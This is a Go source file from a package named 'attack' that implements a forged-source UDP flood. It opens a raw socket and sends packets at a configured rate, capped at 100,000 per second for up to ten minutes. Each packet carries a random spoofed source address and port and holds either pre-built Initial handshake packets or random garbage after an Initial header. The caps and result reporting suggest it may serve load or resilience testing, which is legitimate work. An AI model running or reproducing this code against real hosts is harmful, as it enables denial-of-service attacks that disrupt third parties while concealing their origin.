package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"
)

// FloodConfig configures a spoofed flood.
type FloodConfig struct {
	Target  netip.AddrPort // the victim's UDP address (IPv4)
	Sources netip.Prefix   // forged source addresses are drawn from it, uniformly
	Rate    int            // packets per second
	// Duration bounds the flood; it sends at most Rate × Duration packets.
	Duration time.Duration
	// Garbage sends random bytes behind an Initial's long header instead
	// of valid Initials.
	Garbage bool
	// Pool is how many distinct valid Initials are made before the flood
	// (default: one per packet, at most 20,000); past it they repeat.
	Pool int
	// Started, if set, is called once the pool is made, as the flood begins.
	Started func()
}

// FloodResult is what a flood did.
type FloodResult struct {
	Mode       string        `json:"mode"`
	Sent       int           `json:"sent"`
	SendErrors int           `json:"send_errors"`
	Pool       int           `json:"pool"`
	PoolTime   time.Duration `json:"pool_time_ns"`
	Elapsed    time.Duration `json:"elapsed_ns"`
	Bytes      int           `json:"udp_payload_bytes"`
}

const (
	maxPool   = 20000
	floodTick = 10 * time.Millisecond
)

func (c *FloodConfig) check() error {
	var errs []error
	if !c.Target.Addr().Is4() {
		errs = append(errs, fmt.Errorf("attack: target %v: want an IPv4 address", c.Target))
	}
	if !c.Sources.Addr().Is4() || c.Sources.Bits() < 8 {
		errs = append(errs, fmt.Errorf("attack: sources %v: want an IPv4 prefix of /8 or longer", c.Sources))
	}
	if c.Rate <= 0 || c.Rate > 100_000 {
		errs = append(errs, fmt.Errorf("attack: rate %d: want 1–100000 packets/s", c.Rate))
	}
	if c.Duration <= 0 || c.Duration > 10*time.Minute {
		errs = append(errs, fmt.Errorf("attack: duration %v: want up to 10m", c.Duration))
	}
	return errors.Join(errs...)
}

// Flood sends forged-source packets to the target at the configured rate
// until the duration is over or ctx is done.
func Flood(ctx context.Context, cfg FloodConfig) (FloodResult, error) {
	res := FloodResult{Mode: "spoof"}
	if cfg.Garbage {
		res.Mode = "garbage"
	}
	if err := cfg.check(); err != nil {
		return res, err
	}
	total := int(float64(cfg.Rate) * cfg.Duration.Seconds())
	sock, err := openRawSocket()
	if err != nil {
		return res, err
	}
	defer sock.Close()

	var pool [][]byte
	if !cfg.Garbage {
		n := cfg.Pool
		if n <= 0 {
			n = min(total, maxPool)
		}
		t0 := time.Now()
		pool, err = MakeInitials(ctx, n)
		res.PoolTime = time.Since(t0)
		if err != nil {
			return res, err
		}
		res.Pool = len(pool)
	}
	if cfg.Started != nil {
		cfg.Started()
	}

	buf := make([]byte, 0, headersLen+InitialSize)
	payload := make([]byte, InitialSize)
	start := time.Now()
	tick := time.NewTicker(floodTick)
	defer tick.Stop()
	for res.Sent+res.SendErrors < total {
		due := min(total, int(time.Since(start).Seconds()*float64(cfg.Rate))+1)
		for n := res.Sent + res.SendErrors; n < due; n++ {
			p := payload
			if cfg.Garbage {
				garbageInitial(payload)
			} else {
				p = pool[n%len(pool)]
			}
			src := netip.AddrPortFrom(randomAddr(cfg.Sources), uint16(1024+rand.IntN(65536-1024)))
			buf, err = appendIPv4UDP(buf[:0], src, cfg.Target, uint16(rand.Uint32()), p)
			if err == nil {
				err = sock.send(buf, cfg.Target.Addr())
			}
			if err != nil {
				res.SendErrors++
				continue
			}
			res.Sent++
			res.Bytes += len(p)
		}
		select {
		case <-ctx.Done():
			res.Elapsed = time.Since(start)
			return res, nil
		case <-tick.C:
		}
		if time.Since(start) > cfg.Duration+time.Second {
			break // the machine could not keep up; stop on time anyway
		}
	}
	res.Elapsed = time.Since(start)
	return res, nil
}

// randomAddr draws an address of the IPv4 prefix p uniformly.
func randomAddr(p netip.Prefix) netip.Addr {
	base := p.Masked().Addr().As4()
	host := rand.Uint32() & (1<<(32-p.Bits()) - 1)
	var a [4]byte
	binary.BigEndian.PutUint32(a[:], binary.BigEndian.Uint32(base[:])|host)
	return netip.AddrFrom4(a)
}
